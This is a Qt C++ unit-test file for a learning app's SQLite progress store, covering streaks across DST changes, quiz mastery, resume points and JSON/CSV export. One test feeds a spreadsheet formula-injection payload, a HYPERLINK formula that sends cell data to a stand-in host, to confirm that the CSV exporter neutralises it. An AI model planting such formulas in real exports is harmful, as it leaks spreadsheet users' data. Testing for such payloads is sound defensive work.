// Every figure the progress store derives, against a real SQLite file in a temporary directory.
// Runs with TZ=Europe/Stockholm (pausa_add_test): DST starts 2026-03-29, ends 2026-10-25.
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTimeZone>
#include <QTest>

#include "progress/progressstore.h"

#include <ctime>

using Structure = QList<ProgressStore::ModuleStructure>;
using Kind = ProgressStore::ResumePoint::Kind;

namespace {

const QString course = QStringLiteral("kurs");

// Local wall-clock time (Europe/Stockholm under ctest).
QDateTime local(int month, int day, int hour, int minute = 0, int year = 2026)
{
    return QDateTime(QDate(year, month, day), QTime(hour, minute));
}

} // namespace

class TestProgressStore : public QObject
{
    Q_OBJECT

    QTemporaryDir *m_dir = nullptr;
    ProgressStore *m_store = nullptr;

    bool complete(const QString &module, const QString &lesson, int seconds, const QDateTime &at)
    {
        return m_store->recordLessonOpened(course, module, lesson, at.addSecs(-seconds))
            && m_store->recordLessonCompleted(course, module, lesson, seconds, at);
    }
    qint64 quiz(const QString &module, double percent, int seconds, const QDateTime &at)
    {
        const qint64 id = m_store->startQuizAttempt(course, module, module + QStringLiteral("-quiz"), at);
        return id > 0 && m_store->finishQuizAttempt(id, percent, percent >= 80, seconds, at.addSecs(seconds)) ? id : -1;
    }

private Q_SLOTS:
    void initTestCase()
    {
        QStandardPaths::setTestModeEnabled(true);
        // ctest sets it (pausa_add_test); this makes a direct run of the binary mean the same.
        qputenv("TZ", "Europe/Stockholm");
        tzset();
        QCOMPARE(QDateTime(QDate(2026, 7, 1), QTime(12, 0)).offsetFromUtc(), 2 * 3600);
    }

    void init()
    {
        m_dir = new QTemporaryDir;
        QVERIFY(m_dir->isValid());
        m_store = new ProgressStore;
        const auto opened = m_store->open(m_dir->path());
        QCOMPARE(opened.status, ProgressStore::OpenResult::Status::Created);
        QVERIFY(opened.message.isEmpty());
        QVERIFY(m_store->isPersistent());
    }

    void cleanup()
    {
        delete m_store;
        delete m_dir;
    }

    void lessonsFollowTheCurrentCourse()
    {
        for (const char *lesson : {"a", "b", "c"})
            QVERIFY(complete(QStringLiteral("m1"), QLatin1String(lesson), 60, local(1, 10, 9)));
        QVERIFY(m_store->recordLessonOpened(course, QStringLiteral("m2"), QStringLiteral("e"), local(1, 10, 10)));

        const Structure v1{{QStringLiteral("m1"), {QStringLiteral("a"), QStringLiteral("b"), QStringLiteral("c")}, {}},
                           {QStringLiteral("m2"), {QStringLiteral("e")}, {}}};
        auto progress = m_store->moduleProgress(course, v1, 80);
        QCOMPARE(progress.size(), 2);
        QCOMPARE(progress[0].lessonsDone, 3);
        QCOMPARE(progress[0].lessonsTotal, 3);
        QCOMPARE(progress[0].percentComplete, 100.0);
        QVERIFY(progress[0].mastered); // no quiz: all lessons done is mastery
        QCOMPARE(progress[1].lessonsDone, 0); // opened is not done
        QStringList done = m_store->completedLessons(course, QStringLiteral("m1"));
        done.sort();
        QCOMPARE(done, (QStringList{QStringLiteral("a"), QStringLiteral("b"), QStringLiteral("c")}));
        QVERIFY(m_store->completedLessons(QStringLiteral("other-course"), QStringLiteral("m1")).isEmpty());

        // The new version of the course removes b, adds d, and moves c to m2.
        const Structure v2{{QStringLiteral("m1"), {QStringLiteral("a"), QStringLiteral("d")}, {}},
                           {QStringLiteral("m2"), {QStringLiteral("e"), QStringLiteral("c")}, {}}};
        progress = m_store->moduleProgress(course, v2, 80);
        QCOMPARE(progress[0].lessonsDone, 1);
        QCOMPARE(progress[0].lessonsTotal, 2);
        QCOMPARE(progress[0].percentComplete, 50.0);
        QVERIFY(!progress[0].mastered);
        QCOMPARE(progress[0].secondsSpent, 60); // b's minute no longer counts here...
        QCOMPARE(progress[1].lessonsDone, 1);   // ...and c counts where it is now
        QCOMPARE(progress[1].secondsSpent, 60);
        QCOMPARE(m_store->courseCompletion(course, v2, 80), 50.0);
        // ...but b's history is kept.
        bool foundB = false;
        for (const auto &a : m_store->recentActivity(100))
            foundB = foundB || (a.itemId == QStringLiteral("b") && a.kind == QStringLiteral("lesson_completed"));
        QVERIFY(foundB);
    }

    void quizScoresAttemptsAndMastery()
    {
        const Structure s{{QStringLiteral("m1"), {QStringLiteral("a"), QStringLiteral("b")},
                           {QStringLiteral("q1"), QStringLiteral("q2")}}};
        auto p = m_store->moduleProgress(course, s, 80).value(0);
        QVERIFY(p.hasQuiz);
        QVERIFY(!p.bestScore && !p.lastScore);
        QCOMPARE(p.attempts, 0);
        QVERIFY(!p.lastActivity.isValid());

        QVERIFY(quiz(QStringLiteral("m1"), 60, 100, local(2, 1, 9)) > 0);
        QVERIFY(quiz(QStringLiteral("m1"), 90, 120, local(2, 2, 9)) > 0);
        QVERIFY(quiz(QStringLiteral("m1"), 70, 80, local(2, 3, 9)) > 0);
        // An attempt started but not finished is not an attempt yet.
        QVERIFY(m_store->startQuizAttempt(course, QStringLiteral("m1"), QStringLiteral("m1-quiz"), local(2, 4, 9)) > 0);

        p = m_store->moduleProgress(course, s, 80).value(0);
        QCOMPARE(p.attempts, 3);
        QCOMPARE(p.bestScore.value_or(-1), 90.0);
        QCOMPARE(p.lastScore.value_or(-1), 70.0);
        QVERIFY(p.quizPassed);
        QVERIFY(!p.mastered); // lessons not done yet
        QCOMPARE(p.percentComplete, 100.0 / 3);
        QCOMPARE(p.secondsSpent, 300);
        QCOMPARE(p.lastActivity, local(2, 4, 9));
        QVERIFY(!m_store->moduleProgress(course, s, 95).value(0).quizPassed); // the current pass mark decides

        QVERIFY(complete(QStringLiteral("m1"), QStringLiteral("a"), 30, local(2, 5, 9)));
        QVERIFY(complete(QStringLiteral("m1"), QStringLiteral("b"), 45, local(2, 5, 10)));
        QVERIFY(complete(QStringLiteral("m1"), QStringLiteral("b"), 15, local(2, 6, 10))); // a second reading
        p = m_store->moduleProgress(course, s, 80).value(0);
        QCOMPARE(p.lessonsDone, 2);
        QVERIFY(p.mastered);
        QCOMPARE(p.percentComplete, 100.0);
        QCOMPARE(p.secondsSpent, 300 + 30 + 45 + 15);
        QCOMPARE(p.lastActivity, local(2, 6, 10));
        QVERIFY(!m_store->moduleProgress(course, s, 95).value(0).mastered);
    }

    void questionsFollowTheCurrentQuiz()
    {
        const qint64 id = m_store->startQuizAttempt(course, QStringLiteral("m1"), QStringLiteral("quiz"), local(3, 1, 9));
        QVERIFY(m_store->recordQuizAnswer(id, QStringLiteral("q1"), 1.0, QStringLiteral("{}"), local(3, 1, 9)));
        QVERIFY(m_store->recordQuizAnswer(id, QStringLiteral("q2"), 0.5, QStringLiteral("{}"), local(3, 1, 9)));
        QVERIFY(m_store->recordQuizAnswer(id, QStringLiteral("q3"), 1.0, QStringLiteral("{}"), local(3, 1, 9)));
        // q3 removed, q4 new.
        const Structure s{{QStringLiteral("m1"), {},
                           {QStringLiteral("q1"), QStringLiteral("q2"), QStringLiteral("q4")}}};
        const auto p = m_store->moduleProgress(course, s, 80).value(0);
        QCOMPARE(p.questionsTotal, 3);
        QCOMPARE(p.questionsCorrect, 1);
    }

    void streakOverAMonthEnd()
    {
        for (const QDateTime &at : {local(1, 30, 20), local(1, 31, 7), local(2, 1, 23, 59), local(2, 2, 0, 1)})
            QVERIFY(m_store->recordBreathingSession(QStringLiteral("box"), 60, true, at));
        QCOMPARE(m_store->streakDays(QDate(2026, 2, 2)), 4);
        QCOMPARE(m_store->streakDays(QDate(2026, 2, 3)), 4); // nothing yet today: still counts to yesterday
        QCOMPARE(m_store->streakDays(QDate(2026, 2, 4)), 0);
        QCOMPARE(m_store->streakDays(QDate(2026, 1, 31)), 2); // later days do not count back
        QVERIFY(m_store->recordLessonOpened(course, QStringLiteral("m"), QStringLiteral("l"), local(1, 28, 12)));
        QCOMPARE(m_store->streakDays(QDate(2026, 2, 2)), 4); // the 29th is a gap
        QCOMPARE(m_store->activeDays(QDate(2026, 1, 29), QDate(2026, 2, 1)),
                 (QList<QDate>{QDate(2026, 1, 30), QDate(2026, 1, 31), QDate(2026, 2, 1)}));
    }

    void streakOverTheSpringDstChange()
    {
        // 2026-03-29 02:00 CET -> 03:00 CEST: a 23-hour day.
        QVERIFY(m_store->recordLessonOpened(course, QStringLiteral("m"), QStringLiteral("l"), local(3, 28, 0, 30)));
        // 23:30 UTC on the 28th is 00:30 on the 29th in Stockholm: the learner's day is the 29th.
        const QDateTime utc(QDate(2026, 3, 28), QTime(23, 30), QTimeZone::utc());
        QVERIFY(m_store->recordCardReached(course, QStringLiteral("m"), QStringLiteral("l"), 1, utc));
        // 00:05 on the 30th is only 22 h 35 min after 00:30 on the 29th (the day had 23 hours):
        // counting 24-hour periods would merge the two days; counting calendar dates does not.
        QVERIFY(m_store->recordCardReached(course, QStringLiteral("m"), QStringLiteral("l"), 2, local(3, 30, 0, 5)));
        QCOMPARE(m_store->activeDays(QDate(2026, 3, 27), QDate(2026, 3, 31)),
                 (QList<QDate>{QDate(2026, 3, 28), QDate(2026, 3, 29), QDate(2026, 3, 30)}));
        QCOMPARE(m_store->streakDays(QDate(2026, 3, 30)), 3);
        QCOMPARE(m_store->streakDays(QDate(2026, 3, 31)), 3);
    }

    void streakOverTheAutumnDstChange()
    {
        // 2026-10-25 03:00 CEST -> 02:00 CET: a 25-hour day, 02:30 happens twice.
        QVERIFY(m_store->recordBreathingSession(QStringLiteral("box"), 60, true, local(10, 24, 23, 50)));
        const QDateTime secondHalfPast2(QDate(2026, 10, 25), QTime(1, 30), QTimeZone::utc()); // 02:30 CET
        QVERIFY(m_store->recordBreathingSession(QStringLiteral("box"), 60, true, secondHalfPast2));
        // 00:10 on the 26th is more than 24 hours after 23:50 on the 24th but still the next-but-one day.
        QVERIFY(m_store->recordBreathingSession(QStringLiteral("box"), 60, false, local(10, 26, 0, 10)));
        QCOMPARE(m_store->activeDays(QDate(2026, 10, 24), QDate(2026, 10, 26)),
                 (QList<QDate>{QDate(2026, 10, 24), QDate(2026, 10, 25), QDate(2026, 10, 26)}));
        QCOMPARE(m_store->streakDays(QDate(2026, 10, 26)), 3);
        QCOMPARE(m_store->breathingSeconds(), 180); // completed or not, the time breathed counts
    }

    void resumePointKinds()
    {
        QCOMPARE(m_store->resumePoint(course).kind, Kind::None);
        QVERIFY(m_store->recordLessonOpened(course, QStringLiteral("m1"), QStringLiteral("a"), local(4, 1, 9)));
        auto r = m_store->resumePoint(course);
        QCOMPARE(r.kind, Kind::Lesson);
        QCOMPARE(r.moduleId, QStringLiteral("m1"));
        QCOMPARE(r.lessonId, QStringLiteral("a"));
        QCOMPARE(r.cardIndex, 0);
        QCOMPARE(r.at, local(4, 1, 9));
        QVERIFY(m_store->recordCardReached(course, QStringLiteral("m1"), QStringLiteral("a"), 3, local(4, 1, 9, 2)));
        QCOMPARE(m_store->resumePoint(course).cardIndex, 3);
        QVERIFY(m_store->recordLessonCompleted(course, QStringLiteral("m1"), QStringLiteral("a"), 90, local(4, 1, 9, 3)));
        QCOMPARE(m_store->resumePoint(course).kind, Kind::None); // a completed lesson is no resume point
        QCOMPARE(m_store->resumePoint(QStringLiteral("other-course")).kind, Kind::None);

        // An unfinished lesson, then a quiz started later: the quiz is the most recent.
        QVERIFY(m_store->recordCardReached(course, QStringLiteral("m1"), QStringLiteral("b"), 2, local(4, 2, 9)));
        const qint64 abandoned = m_store->startQuizAttempt(course, QStringLiteral("m2"), QStringLiteral("q"), local(4, 2, 10));
        const qint64 attempt = m_store->startQuizAttempt(course, QStringLiteral("m2"), QStringLiteral("q"), local(4, 2, 11));
        QVERIFY(abandoned > 0 && attempt > abandoned);
        QVERIFY(m_store->recordQuizAnswer(attempt, QStringLiteral("x"), 1, QStringLiteral("{\"c\":1}"), local(4, 2, 11, 1)));
        QVERIFY(m_store->recordQuizAnswer(attempt, QStringLiteral("y"), 0, QStringLiteral("{\"c\":2}"), local(4, 2, 11, 2)));
        r = m_store->resumePoint(course);
        QCOMPARE(r.kind, Kind::Quiz);
        QCOMPARE(r.attemptId, attempt);
        QCOMPARE(r.moduleId, QStringLiteral("m2"));
        QCOMPARE(r.answeredQuestionIds, (QStringList{QStringLiteral("x"), QStringLiteral("y")}));
        QCOMPARE(r.at, local(4, 2, 11, 2));

        QVERIFY(m_store->finishQuizAttempt(attempt, 50, false, 60, local(4, 2, 11, 3)));
        r = m_store->resumePoint(course); // the abandoned attempt does not come back
        QCOMPARE(r.kind, Kind::Lesson);
        QCOMPARE(r.lessonId, QStringLiteral("b"));
        QCOMPARE(r.cardIndex, 2);
    }

    void lastCardReached()
    {
        const QString m = QStringLiteral("m1"), l = QStringLiteral("a");
        QCOMPARE(m_store->lastCardReached(course, m, l), -1);
        QVERIFY(m_store->recordLessonOpened(course, m, l, local(5, 1, 9)));
        QCOMPARE(m_store->lastCardReached(course, m, l), 0);
        QVERIFY(m_store->recordCardReached(course, m, l, 4, local(5, 1, 9, 1)));
        QVERIFY(m_store->recordCardReached(course, m, l, 2, local(5, 1, 9, 2))); // went back: last, not furthest
        QVERIFY(m_store->recordLessonOpened(course, m, l, local(5, 1, 10)));     // reopened: keeps its place
        QCOMPARE(m_store->lastCardReached(course, m, l), 2);
        QVERIFY(m_store->recordLessonCompleted(course, m, l, 60, local(5, 1, 10, 5)));
        QCOMPARE(m_store->lastCardReached(course, m, l), -1);
        QVERIFY(m_store->recordLessonOpened(course, m, l, local(5, 2, 9))); // review: starts at the top
        QCOMPARE(m_store->lastCardReached(course, m, l), 0);
    }

    void attemptAnswersAndBadWrites()
    {
        const qint64 id = m_store->startQuizAttempt(course, QStringLiteral("m1"), QStringLiteral("q"), local(6, 1, 9));
        QVERIFY(m_store->recordQuizAnswer(id, QStringLiteral("q1"), 0, QStringLiteral("[1]"), local(6, 1, 9)));
        QVERIFY(m_store->recordQuizAnswer(id, QStringLiteral("q2"), 1, QStringLiteral("[2]"), local(6, 1, 9)));
        QVERIFY(m_store->recordQuizAnswer(id, QStringLiteral("q1"), 1, QStringLiteral("[3]"), local(6, 1, 9))); // changed
        using Answer = std::pair<QString, QString>;
        QCOMPARE(m_store->attemptAnswers(id), (QList<Answer>{{QStringLiteral("q1"), QStringLiteral("[3]")},
                                                             {QStringLiteral("q2"), QStringLiteral("[2]")}}));
        QVERIFY(m_store->attemptAnswers(id + 100).isEmpty());

        QVERIFY(!m_store->recordQuizAnswer(id + 100, QStringLiteral("q1"), 1, {}, local(6, 1, 9)));
        QVERIFY(m_store->lastError().contains(QStringLiteral("no quiz attempt")));
        QVERIFY(!m_store->recordQuizAnswer(id, QStringLiteral("q3"), 1.5, {}, local(6, 1, 9)));
        QVERIFY(!m_store->lastError().isEmpty());
        QVERIFY(m_store->finishQuizAttempt(id, 75, false, 30, local(6, 1, 10)));
        QVERIFY(m_store->lastError().isEmpty()); // a success clears it
        QVERIFY(!m_store->finishQuizAttempt(id, 75, false, 30, local(6, 1, 10)));
        QVERIFY(m_store->lastError().contains(QStringLiteral("already finished")));
        QVERIFY(!m_store->recordQuizAnswer(id, QStringLiteral("q3"), 1, {}, local(6, 1, 11)));
        QVERIFY(!m_store->recordLessonOpened(course, {}, QStringLiteral("a"), local(6, 1, 9)));
        QVERIFY(!m_store->recordCardReached(course, QStringLiteral("m"), QStringLiteral("a"), -1, local(6, 1, 9)));
        QVERIFY(!m_store->recordBreathingSession(QStringLiteral("box"), 10, true, QDateTime()));
        QCOMPARE(m_store->recentActivity(100).size(), 5); // start, 3 answers, finish: nothing else got in

        ProgressStore closed;
        QVERIFY(!closed.recordLessonOpened(course, QStringLiteral("m"), QStringLiteral("a")));
        QVERIFY(!closed.lastError().isEmpty());
        QCOMPARE(closed.startQuizAttempt(course, QStringLiteral("m"), QStringLiteral("q")), qint64(-1));
    }

    void recentActivityNewestFirst()
    {
        QVERIFY(m_store->recordCardReached(course, QStringLiteral("m1"), QStringLiteral("a"), 7, local(7, 1, 9)));
        QVERIFY(m_store->recordBreathingSession(QStringLiteral("box"), 95, true, local(7, 1, 8))); // recorded late
        QVERIFY(m_store->recordLessonCompleted(course, QStringLiteral("m1"), QStringLiteral("a"), 120, local(7, 1, 10)));
        const auto recent = m_store->recentActivity(2);
        QCOMPARE(recent.size(), 2);
        QCOMPARE(recent[0].kind, QStringLiteral("lesson_completed"));
        QCOMPARE(recent[0].value, 120.0);
        QCOMPARE(recent[0].at, local(7, 1, 10));
        QCOMPARE(recent[1].kind, QStringLiteral("card_reached"));
        QCOMPARE(recent[1].courseId, course);
        QCOMPARE(recent[1].moduleId, QStringLiteral("m1"));
        QCOMPARE(recent[1].itemId, QStringLiteral("a"));
        QCOMPARE(recent[1].value, 7.0);
        QCOMPARE(m_store->recentActivity(10).last().itemId, QStringLiteral("box"));
    }

    void exportJsonAndCsv()
    {
        QVERIFY(m_store->recordCardReached(course, QStringLiteral("m1"), QStringLiteral("a"), 2, local(3, 29, 1, 30)));
        const qint64 id = m_store->startQuizAttempt(course, QStringLiteral("m1"), QStringLiteral("quiz"), local(3, 29, 4));
        const QString response = QStringLiteral("{\"text\":\"ja, \\\"kanske\\\"\\nnej\"}");
        QVERIFY(m_store->recordQuizAnswer(id, QStringLiteral("q1"), 0.5, response, local(3, 29, 4, 1)));
        QVERIFY(m_store->recordBreathingSession(QStringLiteral("box"), 64, false, local(3, 29, 5)));

        const QString jsonPath = m_dir->filePath(QStringLiteral("export.json"));
        QVERIFY(m_store->exportJson(jsonPath));
        QFile jsonFile(jsonPath);
        QVERIFY(jsonFile.open(QIODevice::ReadOnly));
        QJsonParseError error{};
        const QJsonObject root = QJsonDocument::fromJson(jsonFile.readAll(), &error).object();
        QCOMPARE(error.error, QJsonParseError::NoError);
        QCOMPARE(root.value(QStringLiteral("format")).toString(), QStringLiteral("pausa-progress"));
        QCOMPARE(root.value(QStringLiteral("schemaVersion")).toInt(), ProgressStore::schemaVersion());
        const QJsonArray events = root.value(QStringLiteral("events")).toArray();
        QCOMPARE(events.size(), 4);
        const QJsonObject card = events[0].toObject();
        QCOMPARE(card.value(QStringLiteral("kind")).toString(), QStringLiteral("card_reached"));
        QCOMPARE(card.value(QStringLiteral("at")).toString(), QStringLiteral("2026-03-29T00:30:00.000Z")); // CET
        QCOMPARE(card.value(QStringLiteral("localDay")).toString(), QStringLiteral("2026-03-29"));
        QCOMPARE(card.value(QStringLiteral("cardIndex")).toInt(), 2);
        QVERIFY(!card.contains(QStringLiteral("attemptId")));
        const QJsonObject answer = events[2].toObject();
        QCOMPARE(answer.value(QStringLiteral("at")).toString(), QStringLiteral("2026-03-29T02:01:00.000Z")); // CEST
        QCOMPARE(answer.value(QStringLiteral("attemptId")).toInteger(), id);
        QCOMPARE(answer.value(QStringLiteral("itemId")).toString(), QStringLiteral("q1"));
        QCOMPARE(answer.value(QStringLiteral("value")).toDouble(), 0.5);
        QCOMPARE(answer.value(QStringLiteral("response")).toString(), response);
        QCOMPARE(events[3].toObject().value(QStringLiteral("flag")).toBool(true), false);
        QCOMPARE(events[3].toObject().value(QStringLiteral("seconds")).toInt(), 64);

        const QString csvPath = m_dir->filePath(QStringLiteral("export.csv"));
        QVERIFY(m_store->exportCsv(csvPath));
        QFile csvFile(csvPath);
        QVERIFY(csvFile.open(QIODevice::ReadOnly));
        const QByteArray csv = csvFile.readAll();
        const QList<QByteArray> lines = csv.split('\n');
        QCOMPARE(lines[0], QByteArray("id,at_utc,local_day,kind,course_id,module_id,item_id,attempt_id,card_index,"
                                      "seconds,value,flag,response\r"));
        QCOMPARE(lines[1], QByteArray("1,2026-03-29T00:30:00.000Z,2026-03-29,card_reached,kurs,m1,a,,2,,,,\r"));
        const QByteArray answerRow = QByteArray(",quiz_answer,kurs,m1,q1,") + QByteArray::number(id)
            + ",,,0.5,,\"{\"\"text\"\":\"\"ja, \\\"\"kanske\\\"\"\\nnej\"\"}\"\r\n";
        QVERIFY2(csv.contains(answerRow), csv.constData());
        QVERIFY(csv.endsWith(",breathing,,,box,,,64,,0,\r\n"));
    }

    // A quiz title such as =HYPERLINK(…) reaches the CSV as a question id; a spreadsheet must show it as
    // text, not run it. Number cells are never changed.
    void csvCellsAreNeverFormulas()
    {
        const qint64 id = m_store->startQuizAttempt(course, QStringLiteral("+m1"), QStringLiteral("quiz"), local(3, 29, 4));
        QVERIFY(m_store->recordQuizAnswer(id, QStringLiteral("=HYPERLINK(\"https://x.test/?\"&A1;\"klicka\")"), 0.5,
                                          QStringLiteral("@SUM(1)"), local(3, 29, 4, 1)));
        QVERIFY(m_store->recordQuizAnswer(id, QStringLiteral("-2+3"), 1, QStringLiteral("{}"), local(3, 29, 4, 2)));
        const QString csvPath = m_dir->filePath(QStringLiteral("formulas.csv"));
        QVERIFY(m_store->exportCsv(csvPath));
        QFile csvFile(csvPath);
        QVERIFY(csvFile.open(QIODevice::ReadOnly));
        const QByteArray csv = csvFile.readAll();
        const QByteArray first = QByteArray(",quiz_answer,kurs,'+m1,\"'=HYPERLINK(\"\"https://x.test/?\"\"&A1;\"\"klicka\"\")\",")
            + QByteArray::number(id) + ",,,0.5,,'@SUM(1)\r\n";
        QVERIFY2(csv.contains(first), csv.constData());
        const QByteArray second = ",quiz_answer,kurs,'+m1,'-2+3," + QByteArray::number(id) + ",,,1,,{}\r\n";
        QVERIFY2(csv.contains(second), csv.constData());
    }

    void resetKeepsTheSchema()
    {
        const qint64 before = quiz(QStringLiteral("m1"), 90, 60, local(8, 1, 9));
        QVERIFY(complete(QStringLiteral("m1"), QStringLiteral("a"), 60, local(8, 1, 10)));
        QVERIFY(m_store->recordBreathingSession(QStringLiteral("box"), 60, true, local(8, 1, 11)));
        QVERIFY(m_store->reset());
        const Structure s{{QStringLiteral("m1"), {QStringLiteral("a")}, {QStringLiteral("q")}}};
        const auto p = m_store->moduleProgress(course, s, 80).value(0);
        QCOMPARE(p.lessonsDone, 0);
        QCOMPARE(p.attempts, 0);
        QVERIFY(!p.bestScore);
        QCOMPARE(m_store->streakDays(QDate(2026, 8, 1)), 0);
        QCOMPARE(m_store->breathingSeconds(), 0);
        QVERIFY(m_store->recentActivity(10).isEmpty());
        QCOMPARE(m_store->resumePoint(course).kind, Kind::None);
        // Still usable; an attempt id from before the reset never comes back.
        QVERIFY(quiz(QStringLiteral("m1"), 50, 60, local(8, 2, 9)) > before);
        QCOMPARE(m_store->recentActivity(10).size(), 2);
    }

    void survivesReopening()
    {
        QVERIFY(complete(QStringLiteral("m1"), QStringLiteral("a"), 60, local(9, 1, 9)));
        QVERIFY(m_store->recordCardReached(course, QStringLiteral("m1"), QStringLiteral("b"), 5, local(9, 1, 10)));
        m_store->close();
        QVERIFY(!m_store->recordLessonOpened(course, QStringLiteral("m1"), QStringLiteral("c")));

        ProgressStore again; // a second instance: its own connection name
        QVERIFY(again.connectionName() != m_store->connectionName());
        const auto opened = again.open(m_dir->path());
        QCOMPARE(opened.status, ProgressStore::OpenResult::Status::Ok);
        QVERIFY(opened.message.isEmpty());
        QCOMPARE(again.filePath(), QDir(m_dir->path()).absoluteFilePath(QStringLiteral("progress.db")));
        const Structure s{{QStringLiteral("m1"), {QStringLiteral("a"), QStringLiteral("b")}, {}}};
        QCOMPARE(again.moduleProgress(course, s, 80).value(0).lessonsDone, 1);
        QCOMPARE(again.lastCardReached(course, QStringLiteral("m1"), QStringLiteral("b")), 5);
    }
};

QTEST_GUILESS_MAIN(TestProgressStore)
#include "tst_progressstore.moc"
